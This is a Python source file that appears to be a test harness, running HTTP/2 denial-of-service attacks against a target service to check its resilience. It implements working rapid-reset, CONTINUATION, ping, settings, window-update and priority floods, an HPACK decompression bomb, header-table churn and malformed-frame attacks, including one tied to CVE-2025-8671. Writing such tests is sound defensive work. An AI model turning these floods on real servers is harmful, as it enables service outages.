"""Attacks with frames of HTTP/2: too many of them, or such as no client sends."""

from __future__ import annotations

import struct
import time
from collections.abc import Callable
from itertools import count

from wire import (
    ACK,
    END_HEADERS,
    END_STREAM,
    HEALTH,
    INITIAL_WINDOW_SIZE,
    SWEEPS,
    Http2,
    Kind,
    frame,
    headers,
    integer,
    literal,
    message,
    reset,
    settings,
    window_update,
)

from target import Target, attack

#: Seconds for which a flood lasts where it takes longer to send all.
FLOOD = 1.0
#: Frames that are sent in one piece.
AT_ONCE = 200


def flood(
    target: Target,
    frames: Callable[[Http2], bytes],
    most: int,
    begin: Callable[[Http2], None] = lambda _: None,
    read: bool = True,
) -> tuple[int, int]:
    """Sends such frames until there were so many or time is up, on a new connection whenever one is ended.

    How many were sent, and on how many connections.
    """
    sent = connections = 0
    until = time.monotonic() + FLOOD
    while sent < most and time.monotonic() < until:
        with Http2(target.address) as line:
            connections += 1
            begin(line)
            while not line.closed and sent < most and (left := until - time.monotonic()) > 0:
                at_once = b"".join(frames(line) for _ in range(AT_ONCE))
                sent += AT_ONCE * line.send(at_once, left, read) // len(at_once)
            # Closed before, it would take what has not been looked at with it.
            line.settle(until - time.monotonic())
    assert sent >= AT_ONCE, "nothing was taken"
    return sent, connections


def says(what: str, sent: tuple[int, int]) -> str:
    """For the table."""
    number, connections = sent
    return f"{number:,} {what} on {connections:,} connection{'s' if connections > 1 else ''}"


@attack("rapid reset")
def rapid_reset(target: Target) -> str:
    block = headers(SWEEPS + "List", target.token)

    def open_and_reset(line: Http2) -> bytes:
        stream = line.next_stream()
        return frame(Kind.HEADERS, END_HEADERS, stream, block) + reset(stream)

    return says("streams, each opened and reset,", flood(target, open_and_reset, 50_000))


@attack("rapid reset of whole requests")
def rapid_reset_of_calls(target: Target) -> str:
    block, body = headers(SWEEPS + "List", target.token), message(b"")

    def call_and_reset(line: Http2) -> bytes:
        stream = line.next_stream()
        call = frame(Kind.HEADERS, END_HEADERS, stream, block) + frame(Kind.DATA, END_STREAM, stream, body)
        return call + reset(stream)

    return says("calls of List, each reset,", flood(target, call_and_reset, 50_000))


@attack("made to reset")
def made_to_reset(target: Target) -> str:
    """The coordinator itself resets the streams, for a fault of the attacker's (CVE-2025-8671)."""
    block = headers(SWEEPS + "List", target.token)

    def open_and_err(line: Http2) -> bytes:
        stream = line.next_stream()
        return frame(Kind.HEADERS, END_HEADERS, stream, block) + window_update(stream, 0)

    return says("streams, each with a faulty frame,", flood(target, open_and_err, 50_000))


@attack("CONTINUATION flood")
def continuation_flood(target: Target) -> str:
    part = literal(b"x-filler", b"y" * 1000)

    def begin(line: Http2) -> None:
        line.send(frame(Kind.HEADERS, 0, line.next_stream(), headers(HEALTH)))

    sent = flood(target, lambda _: frame(Kind.CONTINUATION, 0, 1, part), 50_000, begin)
    return says("CONTINUATION frames of 1 kB after headers without an end,", sent)


@attack("empty CONTINUATION flood")
def empty_continuation_flood(target: Target) -> str:
    def begin(line: Http2) -> None:
        line.send(frame(Kind.HEADERS, 0, line.next_stream(), headers(HEALTH)))

    sent = flood(target, lambda _: frame(Kind.CONTINUATION, 0, 1), 100_000, begin)
    return says("empty CONTINUATION frames", sent)


@attack("ping flood")
def ping_flood(target: Target) -> str:
    return says("PING frames", flood(target, lambda _: frame(Kind.PING, payload=b"12345678"), 1_000_000))


@attack("ping flood, answers not read")
def unread_ping_flood(target: Target) -> str:
    sent = flood(target, lambda _: frame(Kind.PING, payload=b"12345678"), 1_000_000, read=False)
    return says("PING frames whose answers nobody reads,", sent)


@attack("settings flood")
def settings_flood(target: Target) -> str:
    wide = [settings((INITIAL_WINDOW_SIZE, 65_535 + turn % 2)) for turn in range(2)]
    turns = count()
    sent = flood(target, lambda _: wide[next(turns) % 2], 500_000, read=False)
    return says("SETTINGS frames whose answers nobody reads,", sent)


@attack("settings flood with open streams")
def settings_flood_on_streams(target: Target) -> str:
    """Each change of the window is a change to every stream."""
    wide = [
        settings((INITIAL_WINDOW_SIZE, 0), (INITIAL_WINDOW_SIZE, 1 << 30), (INITIAL_WINDOW_SIZE, turn))
        for turn in (1, 2)
    ]
    turns = count()

    def begin(line: Http2) -> None:
        for _ in range(250):
            line.call(SWEEPS + "UploadInput", None, target.token)

    return says("SETTINGS frames over 250 open streams", flood(target, lambda _: wide[next(turns) % 2], 50_000, begin))


@attack("window update flood")
def window_flood(target: Target) -> str:
    return says("WINDOW_UPDATE frames of 1 byte", flood(target, lambda _: window_update(0, 1), 1_000_000))


@attack("window updates of nothing and too much")
def faulty_windows(target: Target) -> str:
    turns = count()

    def faulty(line: Http2) -> bytes:
        return window_update(0, 0 if next(turns) % 2 else 0x7FFFFFFF)

    return says("WINDOW_UPDATE frames of 0 and of 2^31 - 1 bytes", flood(target, faulty, 20_000))


@attack("priority flood")
def priority_flood(target: Target) -> str:
    streams = count(1, 2)

    def chained(_: Http2) -> bytes:
        stream = next(streams) & 0x7FFFFFFF
        return frame(Kind.PRIORITY, 0, stream, struct.pack(">IB", max(0, stream - 2), 255))

    return says("PRIORITY frames, each on the one before,", flood(target, chained, 500_000))


@attack("empty DATA flood")
def empty_data_flood(target: Target) -> str:
    def begin(line: Http2) -> None:
        line.call(SWEEPS + "UploadInput", None, target.token)

    return says("empty DATA frames", flood(target, lambda _: frame(Kind.DATA, 0, 1), 200_000, begin))


@attack("padded DATA flood")
def padded_data_flood(target: Target) -> str:
    """Padding counts for the windows, and is nothing."""
    padded = frame(Kind.DATA, 0x8, 1, b"\xff" + b"\0" * 255)

    def begin(line: Http2) -> None:
        line.call(SWEEPS + "UploadInput", None, target.token)

    return says("DATA frames of padding alone", flood(target, lambda _: padded, 100_000, begin))


@attack("HPACK bomb")
def hpack_bomb(target: Target) -> str:
    """A header of 4 kB in the table, and thousands of references of one byte to it."""
    entry = literal(b"x", b"y" * 3900, first=0x40)
    reference = integer(62, 7, first=0x80)

    def bomb(line: Http2) -> bytes:
        return frame(
            Kind.HEADERS, END_HEADERS | END_STREAM, line.next_stream(), headers(HEALTH) + entry + reference * 10_000
        )

    # 39 MB of headers each.
    return says("requests whose 14 kB of headers mean 39 MB,", flood(target, bomb, 1000))


@attack("headers that are too long")
def long_headers(target: Target) -> str:
    block = headers(HEALTH) + literal(b"x", b"y" * (1 << 20))
    pieces = [block[at : at + 16_384] for at in range(0, len(block), 16_384)]

    def long(line: Http2) -> bytes:
        stream = line.next_stream()
        first = frame(Kind.HEADERS, END_STREAM, stream, pieces[0])
        middle = [frame(Kind.CONTINUATION, 0, stream, piece) for piece in pieces[1:-1]]
        return b"".join([first, *middle, frame(Kind.CONTINUATION, END_HEADERS, stream, pieces[-1])])

    sent = 0
    for _ in range(20):
        with Http2(target.address) as line:
            sent += line.send(long(line)) >= 1 << 20
            line.read(0.05)
    return f"20 requests with headers of 1 MiB, of which {sent} were read to their end"


@attack("churn of the header table")
def table_churn(target: Target) -> str:
    """The table is emptied and filled again with every header."""
    churn = b"".join(
        integer(0, 5, first=0x20) + integer(4096, 5, first=0x20) + literal(b"x", b"y" * 100, first=0x40)
        for _ in range(100)
    )

    def request(line: Http2) -> bytes:
        return frame(Kind.HEADERS, END_HEADERS | END_STREAM, line.next_stream(), churn + headers(HEALTH))

    return says("requests that resize the header table 200 times,", flood(target, request, 5000))


@attack("unknown frames")
def unknown_frames(target: Target) -> str:
    frames = [frame(kind, 0xFF, 0, b"z" * 64) for kind in range(32, 64)]
    turns = count()
    return says("frames of types that there are not", flood(target, lambda _: frames[next(turns) % 32], 500_000))


@attack("frames that no client sends")
def wrong_frames(target: Target) -> str:
    """Each ends the connection it comes on."""
    wrong = [
        frame(Kind.PUSH_PROMISE, END_HEADERS, 1, struct.pack(">I", 2) + headers(HEALTH)),
        frame(Kind.HEADERS, END_HEADERS, 2, headers(HEALTH)),
        frame(Kind.HEADERS, END_HEADERS, 0, headers(HEALTH)),
        frame(Kind.DATA, END_STREAM, 7, message(b"")),
        frame(Kind.CONTINUATION, END_HEADERS, 1, headers(HEALTH)),
        frame(Kind.RST_STREAM, 0, 9, b"\0"),
        frame(Kind.SETTINGS, ACK, 0, b"\0" * 6),
        frame(Kind.SETTINGS, 0, 0, b"\0" * 5),
        settings((INITIAL_WINDOW_SIZE, 1 << 31)),
        frame(Kind.PING, 0, 0, b"short"),
        frame(Kind.WINDOW_UPDATE, 0, 0, b"\0"),
        frame(Kind.GOAWAY, 0, 0, b"\0" * 4),
        # Says that it is longer than a frame may be.
        b"\xff\xff\xff" + struct.pack(">BBI", Kind.DATA, 0, 1) + b"\0" * (64 << 10),
        # Headers that break off within an integer, and that point out of the table.
        frame(Kind.HEADERS, END_HEADERS | END_STREAM, 1, b"\xff" * 20),
        frame(Kind.HEADERS, END_HEADERS | END_STREAM, 1, integer(5000, 7, first=0x80)),
        frame(Kind.HEADERS, END_HEADERS | END_STREAM, 1, integer(1 << 30, 5, first=0x20)),
        # A string that says it has 2^60 bytes, and one whose Huffman code ends nowhere.
        frame(Kind.HEADERS, END_HEADERS | END_STREAM, 1, b"\x00" + integer(1 << 60, 7) + b"name"),
        frame(Kind.HEADERS, END_HEADERS | END_STREAM, 1, b"\x00" + integer(30, 7, first=0x80) + b"\xff" * 30),
    ]
    ended = 0
    for _ in range(20):
        for one in wrong:
            with Http2(target.address) as line:
                line.send(one)
                ended += line.ends(0.5)
    assert ended == 20 * len(wrong), f"only {ended} of {20 * len(wrong)} connections were ended"
    return f"{20 * len(wrong)} connections with {len(wrong)} kinds of them"
